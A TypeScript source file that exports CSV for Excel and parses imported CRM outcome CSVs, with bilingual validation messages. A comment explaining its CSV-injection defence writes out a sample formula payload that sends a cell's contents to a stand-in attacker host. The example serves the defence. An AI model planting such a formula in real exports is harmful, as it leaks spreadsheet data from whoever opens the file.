/**
 * CSV out (KPI and review exports) and in (outcomes a team's CRM never showed Baton: opportunities, wins
 * and losses exported from the CRM or kept in a spreadsheet). Both sides expect Excel, the tool most of
 * our Japanese users open a CSV with.
 */
import { zoneClock } from '../calendar/zone';
import { salesforceId18 } from '../crm/salesforce-id';
import type { LocalizedText } from '../i18n';
import { type CrmId, crmIdSchema } from '../lead';
import { leadKeyString } from '../lead-key';
import type { OutcomeRow } from './types';

// ---------------------------------------------------------------------------------------------------
// Writing

/**
 * Excel (notably Japanese Windows Excel) reads a CSV without a byte-order mark in the system code page,
 * Shift_JIS (CP932), so UTF-8 Japanese text shows as mojibake when the file is double-clicked. With the
 * UTF-8 BOM it reads UTF-8. Other tools (Google Sheets, Numbers, pandas with utf-8-sig) skip it.
 */
const BOM = '\uFEFF';
const CRLF = '\r\n';

const PLAIN_NUMBER = /^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/;
/**
 * A cell starting with one of these is run as a formula by Excel, LibreOffice and Sheets ("CSV
 * injection", OWASP): a lead's company field typed by a stranger on a web form could be
 * `=HYPERLINK("https://evil.example/?"&A1, "詳細")`. A leading apostrophe makes the cell text.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

function cellText(value: string | number | null): string {
  if (value === null) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  if (FORMULA_START.test(value) && !PLAIN_NUMBER.test(value)) return `'${value}`;
  return value;
}

function quoted(text: string): string {
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/**
 * RFC 4180 CSV with a UTF-8 BOM and CRLF line ends: fields holding a comma, quote or line break are
 * quoted (quotes doubled), null is an empty field, and text that a spreadsheet would run as a formula is
 * prefixed with an apostrophe (plain numbers such as "-12" are left alone).
 */
export function toCsv(
  header: readonly string[],
  rows: readonly (readonly (string | number | null)[])[],
): string {
  const lines = [header, ...rows].map((row) => row.map((cell) => quoted(cellText(cell))).join(','));
  return BOM + lines.join(CRLF) + CRLF;
}

// ---------------------------------------------------------------------------------------------------
// Reading: records

interface CsvRecord {
  /** 1-based line of the file where the record starts, as an editor numbers lines. */
  line: number;
  fields: string[];
  /** Ends inside a quoted field (a quote never closed). */
  unterminated: boolean;
}

const QUOTE = 34;
const COMMA = 44;
const CR = 13;
const LF = 10;

/** Line breaks in a piece of a quoted field, counted as an editor counts lines (CRLF is one). */
function lineBreaks(text: string): number {
  if (!text.includes('\n') && !text.includes('\r')) return 0;
  return text.match(/\r\n?|\n/g)?.length ?? 0;
}

/** RFC 4180 records, tolerant of LF and CR line ends as well as CRLF. */
function* records(text: string): Generator<CsvRecord> {
  const unquoted = /[^,\r\n]*/y;
  let line = 1;
  let i = 0;
  while (i < text.length) {
    const start = line;
    const fields: string[] = [];
    let unterminated = false;
    for (;;) {
      let field = '';
      if (text.charCodeAt(i) === QUOTE) {
        // A quoted field: up to the closing quote, "" standing for one quote; line breaks belong to it.
        i++;
        for (;;) {
          const close = text.indexOf('"', i);
          const piece = close < 0 ? text.slice(i) : text.slice(i, close);
          line += lineBreaks(piece);
          field += piece;
          if (close < 0) {
            i = text.length;
            unterminated = true;
            break;
          }
          if (text.charCodeAt(close + 1) === QUOTE) {
            field += '"';
            i = close + 2;
            continue;
          }
          i = close + 1;
          break;
        }
        // Text after the closing quote ("ab"c) is kept, as spreadsheets do.
      }
      unquoted.lastIndex = i;
      const rest = unquoted.exec(text)?.[0] ?? '';
      field += rest;
      i += rest.length;
      fields.push(field);
      if (text.charCodeAt(i) !== COMMA) break;
      i++;
    }
    if (text.charCodeAt(i) === CR) i++;
    if (text.charCodeAt(i) === LF) i++;
    line++;
    yield { line: start, fields, unterminated };
  }
}

/**
 * The records of a CSV text (a leading BOM dropped), each a list of fields, for previews and tests; an
 * unclosed quote runs to the end of the text. parseOutcomesCsv is the checked reader for imports.
 */
export function readCsv(text: string): string[][] {
  const body = text.startsWith(BOM) ? text.slice(1) : text;
  return Array.from(records(body), (record) => record.fields);
}

function isBlank(record: CsvRecord): boolean {
  return record.fields.every((f) => f.trim() === '');
}

// ---------------------------------------------------------------------------------------------------
// Reading: outcomes

/** More is a whole CRM's history: split it, so one bad line does not throw away hours of rows. */
export const OUTCOMES_CSV_MAX_ROWS = 50_000;

const COLUMNS = ['crm', 'object', 'record_id', 'outcome', 'date'] as const;
type Column = (typeof COLUMNS)[number];

// Maps, not object literals: a header or cell reading "constructor" must not find Object.prototype's.
/** Header names after folding (NFKC, lower case, no spaces, "_" or "-"). */
const HEADER_ALIASES = new Map<string, Column>([
  ['crm', 'crm'],
  ['object', 'object'],
  ['オブジェクト', 'object'],
  ['recordid', 'record_id'],
  ['レコードid', 'record_id'],
  ['outcome', 'outcome'],
  ['結果', 'outcome'],
  ['date', 'date'],
  ['日付', 'date'],
]);

const COLUMN_NAMES: Record<Column, LocalizedText> = {
  crm: { ja: 'CRM', en: 'crm' },
  object: { ja: 'オブジェクト', en: 'object' },
  record_id: { ja: 'レコードID', en: 'record_id' },
  outcome: { ja: '結果', en: 'outcome' },
  date: { ja: '日付', en: 'date' },
};

const OUTCOMES = new Map<string, OutcomeRow['outcome']>([
  ['sql', 'sql'],
  ['opportunity', 'opportunity'],
  ['won', 'won'],
  ['lost', 'lost'],
  ['商談化', 'opportunity'],
  ['受注', 'won'],
  ['失注', 'lost'],
]);

/**
 * The objects each CRM adapter keys leads by (lib/crm/*.ts), spelled as the adapter spells them: an
 * import row must produce the very key the extension recorded, or its outcome never meets its lead.
 * kintone's object is the app id, any number.
 */
const OBJECTS: Record<CrmId, readonly string[]> = {
  salesforce: ['Lead'],
  hubspot: ['contact', 'lead'],
  dynamics: ['lead'],
  zoho: ['Leads'],
  pipedrive: ['lead', 'person'],
  kintone: [],
};

const CRM_IDS: ReadonlySet<string> = new Set(crmIdSchema.options);
const isCrmId = (text: string): text is CrmId => CRM_IDS.has(text);

const UUID = /^\{?([0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12})\}?$/i;

/** NFKC folds full-width letters and digits ("ＣＲＭ", "２０２６") that Japanese IMEs type; ASCII needs none. */
function nfkc(text: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: the range is all of ASCII, control characters included.
  return /^[\u0000-\u007f]*$/.test(text) ? text : text.normalize('NFKC');
}

function fold(text: string): string {
  return nfkc(text).trim().toLowerCase();
}

function foldHeader(text: string): string {
  return fold(text).replace(/[\s_-]+/g, '');
}

/** A user's value quoted back in a message, cut short so one wild cell cannot flood the list. */
function shown(value: string): string {
  const v = value.trim();
  return v.length > 40 ? `${v.slice(0, 40)}…` : v;
}

type Problem = { line: number; message: LocalizedText };
type Parsed<T> = { value: T } | { message: LocalizedText };

function parseCrm(value: string): Parsed<CrmId> {
  const crm = fold(value);
  if (isCrmId(crm)) return { value: crm };
  const list = crmIdSchema.options.join(', ');
  return {
    message: {
      ja: `CRM「${shown(value)}」は使えません。${list} のいずれかにしてください`,
      en: `CRM "${shown(value)}" is not supported: use one of ${list}`,
    },
  };
}

function parseObject(crm: CrmId, value: string): Parsed<string> {
  const v = nfkc(value).trim();
  if (crm === 'kintone') {
    if (/^\d{1,20}$/.test(v)) return { value: v };
    return {
      message: {
        ja: `kintone のオブジェクトにはアプリ ID（数字）を書いてください（「${shown(value)}」）`,
        en: `For kintone, the object is the app id, a number (got "${shown(value)}")`,
      },
    };
  }
  const known = OBJECTS[crm].find((o) => o.toLowerCase() === v.toLowerCase());
  if (known) return { value: known };
  const list = OBJECTS[crm].join(', ');
  return {
    message: {
      ja: `${crm} のオブジェクト「${shown(value)}」は使えません。${list} のいずれかにしてください`,
      en: `Object "${shown(value)}" is not one Baton reads in ${crm}: use ${list}`,
    },
  };
}

/** The record id as the adapter keys it: Salesforce in its 18-character form, UUIDs in lower case. */
function parseRecordId(crm: CrmId, object: string, value: string): Parsed<string> {
  const v = nfkc(value).trim();
  if (v === '') {
    return { message: { ja: 'レコードIDが空です', en: 'The record_id is empty' } };
  }
  if (v.length > 128) {
    return { message: { ja: 'レコードIDは128文字以内です', en: 'A record_id has at most 128 characters' } };
  }
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are exactly what is refused.
  if (/[\u0000-\u001f\u007f]/.test(v)) {
    return {
      message: {
        ja: 'レコードIDに改行やタブが入っています。CRM の ID だけを書いてください',
        en: 'The record_id contains a line break or tab: give only the CRM id',
      },
    };
  }
  if (crm === 'salesforce') {
    const id = v.startsWith('00Q') ? salesforceId18(v) : null;
    if (id) return { value: id };
    return {
      message: {
        ja: `Salesforce のリード ID は「00Q」で始まる15桁か18桁の英数字です（「${shown(value)}」）`,
        en: `A Salesforce lead id is 15 or 18 letters and digits starting with "00Q" (got "${shown(value)}")`,
      },
    };
  }
  if (crm === 'dynamics' || (crm === 'pipedrive' && object === 'lead')) {
    const uuid = UUID.exec(v)?.[1];
    if (uuid) return { value: uuid.toLowerCase() };
    return {
      message: {
        ja: `この ID は「xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx」形式の GUID で書いてください（「${shown(value)}」）`,
        en: `This id is a GUID such as "xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx" (got "${shown(value)}")`,
      },
    };
  }
  return { value: v };
}

function parseOutcome(value: string): Parsed<OutcomeRow['outcome']> {
  const outcome = OUTCOMES.get(fold(value));
  if (outcome) return { value: outcome };
  return {
    message: {
      ja: `結果「${shown(value)}」は使えません。SQL・商談化・受注・失注（sql・opportunity・won・lost）のいずれかにしてください`,
      en: `Outcome "${shown(value)}" is not known: use sql, opportunity, won or lost (SQL, 商談化, 受注, 失注)`,
    },
  };
}

// YYYY-MM-DD, and YYYY/M/D as Japanese Excel rewrites dates when it saves a CSV.
const DATE = /^(\d{4})[-/](\d{1,2})[-/](\d{1,2})$/;
// Date and time; an offset or Z makes it an instant, without one it is a wall-clock time in the zone.
const DATE_TIME =
  /^(\d{4})[-/](\d{1,2})[-/](\d{1,2})[T ](\d{1,2}):(\d{2})(?::(\d{2})(?:\.(\d{1,3})\d*)?)?(Z|[+-]\d{2}:?\d{2})?$/i;

function dayNumber(y: string, m: string, d: string): number | null {
  const year = Number(y);
  const month = Number(m);
  const day = Number(d);
  const ms = Date.UTC(year, month - 1, day);
  const check = new Date(ms);
  if (check.getUTCFullYear() !== year || check.getUTCMonth() !== month - 1 || check.getUTCDate() !== day) {
    return null;
  }
  return ms / 86_400_000;
}

function badDate(value: string): Parsed<number> {
  return {
    message: {
      ja: `日付「${shown(value)}」を読めません。「2026-11-25」か「2026-11-25T10:00:00+09:00」の形式にしてください`,
      en: `Cannot read the date "${shown(value)}": write it as 2026-11-25 or 2026-11-25T10:00:00+09:00`,
    },
  };
}

function parseDate(value: string, zone: string | undefined): Parsed<number> {
  const v = nfkc(value).trim();
  const date = DATE.exec(v);
  if (date) {
    const day = dayNumber(date[1]!, date[2]!, date[3]!);
    if (day === null) return badDate(value);
    return { value: zone === undefined ? day * 86_400_000 : zoneClock(zone).dayStart(day) };
  }
  const time = DATE_TIME.exec(v);
  if (!time) return badDate(value);
  const day = dayNumber(time[1]!, time[2]!, time[3]!);
  const hour = Number(time[4]);
  const minute = Number(time[5]);
  const second = Number(time[6] ?? 0);
  if (day === null || hour > 23 || minute > 59 || second > 59) return badDate(value);
  const msOfDay = ((hour * 60 + minute) * 60 + second) * 1000 + Number((time[7] ?? '').padEnd(3, '0'));
  const offset = time[8];
  if (offset === undefined) {
    return {
      value: zone === undefined ? day * 86_400_000 + msOfDay : zoneClock(zone).wallToInstant(day, msOfDay),
    };
  }
  if (offset.toUpperCase() === 'Z') return { value: day * 86_400_000 + msOfDay };
  const sign = offset.startsWith('-') ? -1 : 1;
  const digits = offset.slice(1).replace(':', '');
  const offsetMinutes = Number(digits.slice(0, 2)) * 60 + Number(digits.slice(2));
  if (offsetMinutes > 14 * 60) return badDate(value);
  return { value: day * 86_400_000 + msOfDay - sign * offsetMinutes * 60_000 };
}

function headerProblems(header: CsvRecord): { columns: Record<Column, number> } | { problems: Problem[] } {
  const found = new Map<Column, number>();
  const problems: Problem[] = [];
  header.fields.forEach((name, index) => {
    const column = HEADER_ALIASES.get(foldHeader(name));
    if (column === undefined) return;
    if (found.has(column)) {
      problems.push({
        line: header.line,
        message: {
          ja: `見出しの「${COLUMN_NAMES[column].ja}」列が2つあります。1つにしてください`,
          en: `The header has the ${COLUMN_NAMES[column].en} column twice: keep one`,
        },
      });
    }
    found.set(column, index);
  });
  const missing = COLUMNS.filter((c) => !found.has(c));
  if (missing.length > 0) {
    problems.push({
      line: header.line,
      message: {
        ja: `最初の行は見出しにして、${missing.map((c) => COLUMN_NAMES[c].ja).join('・')} の列を入れてください（見出しの例: crm,object,record_id,outcome,date）`,
        en: `The first line must be a header with the column(s) ${missing.map((c) => COLUMN_NAMES[c].en).join(', ')} (e.g. crm,object,record_id,outcome,date)`,
      },
    });
  }
  if (problems.length > 0) return { problems };
  // Every column was found: missing is empty.
  return {
    columns: {
      crm: found.get('crm')!,
      object: found.get('object')!,
      record_id: found.get('record_id')!,
      outcome: found.get('outcome')!,
      date: found.get('date')!,
    },
  };
}

function take<T>(parsed: Parsed<T>, problems: LocalizedText[]): T | undefined {
  if ('value' in parsed) return parsed.value;
  problems.push(parsed.message);
  return undefined;
}

function rowFrom(
  record: CsvRecord,
  columns: Record<Column, number>,
  width: number,
  zone: string | undefined,
) {
  const problems: LocalizedText[] = [];
  if (record.unterminated) {
    problems.push({
      ja: '引用符（"）が閉じられていません。値の中の " は "" と2つ重ねてください',
      en: 'A quote (") is never closed: write a quote inside a value as two quotes ("")',
    });
    return { problems };
  }
  const { fields } = record;
  if (fields.length !== width && (fields.length < width || fields.slice(width).join('').trim() !== '')) {
    problems.push({
      ja: `列の数が見出しと違います（見出し ${width} 列、この行 ${fields.length} 列）。カンマを含む値は "" で囲んでください`,
      en: `This line has ${fields.length} fields but the header has ${width}: put values containing a comma in double quotes`,
    });
    return { problems };
  }
  // No closures per row: tsx (the server's runtime) names every closure it creates, which showed up
  // as a third of the time of a 50,000-row import.
  const crm = take(parseCrm(fields[columns.crm]!), problems);
  const object = crm === undefined ? undefined : take(parseObject(crm, fields[columns.object]!), problems);
  const recordId =
    crm === undefined || object === undefined
      ? undefined
      : take(parseRecordId(crm, object, fields[columns.record_id]!), problems);
  const outcome = take(parseOutcome(fields[columns.outcome]!), problems);
  const at = take(parseDate(fields[columns.date]!, zone), problems);
  if (
    crm === undefined ||
    object === undefined ||
    recordId === undefined ||
    outcome === undefined ||
    at === undefined
  ) {
    return { problems };
  }
  const row: OutcomeRow = { leadKey: leadKeyString({ crm, object, recordId }), crm, outcome, at };
  return { row, problems };
}

/**
 * Outcomes from a CSV file's text. The first non-blank line is the header: columns crm, object,
 * record_id, outcome, date in any order and case, or their Japanese names (CRM, オブジェクト, レコードID,
 * 結果, 日付); other columns are ignored. Outcomes: opportunity, won, lost or 商談化, 受注, 失注. Dates:
 * YYYY-MM-DD (or YYYY/M/D, as Excel saves them) for midnight, or a date and time; without an offset they
 * are read in `zone` (an IANA zone, default UTC; an unknown zone throws a RangeError, as it is the
 * caller's rule set, not the file, that names it). At most OUTCOMES_CSV_MAX_ROWS rows. All or nothing:
 * every bad line is reported (line numbers as an editor counts them) and no row is accepted if any is bad.
 */
export function parseOutcomesCsv(
  text: string,
  zone?: string,
): { ok: true; rows: OutcomeRow[] } | { ok: false; problems: { line: number; message: LocalizedText }[] } {
  const body = text.startsWith(BOM) ? text.slice(1) : text;
  let header: { record: CsvRecord; columns: Record<Column, number> } | null = null;
  const rows: OutcomeRow[] = [];
  const problems: Problem[] = [];
  let count = 0;
  for (const record of records(body)) {
    if (isBlank(record) && !record.unterminated) continue;
    if (header === null) {
      const checked = headerProblems(record);
      if ('problems' in checked) return { ok: false, problems: checked.problems };
      header = { record, columns: checked.columns };
      continue;
    }
    count++;
    if (count > OUTCOMES_CSV_MAX_ROWS) {
      return {
        ok: false,
        problems: [
          {
            line: record.line,
            message: {
              ja: `1回に読み込めるのは ${OUTCOMES_CSV_MAX_ROWS.toLocaleString('ja-JP')} 行までです。ファイルを分けてください`,
              en: `At most ${OUTCOMES_CSV_MAX_ROWS.toLocaleString('en-US')} rows can be imported at once: split the file`,
            },
          },
        ],
      };
    }
    const result = rowFrom(record, header.columns, header.record.fields.length, zone);
    for (const message of result.problems) problems.push({ line: record.line, message });
    if (result.row) rows.push(result.row);
  }
  if (header === null) {
    return {
      ok: false,
      problems: [
        {
          line: 1,
          message: {
            ja: 'ファイルが空です。見出し（crm,object,record_id,outcome,date）と結果の行を入れてください',
            en: 'The file is empty: give a header (crm,object,record_id,outcome,date) and outcome rows',
          },
        },
      ],
    };
  }
  if (problems.length > 0) return { ok: false, problems };
  if (rows.length === 0) {
    return {
      ok: false,
      problems: [
        {
          line: header.record.line + 1,
          message: {
            ja: '見出しの下に結果の行がありません',
            en: 'There are no outcome rows below the header',
          },
        },
      ],
    };
  }
  return { ok: true, rows };
}
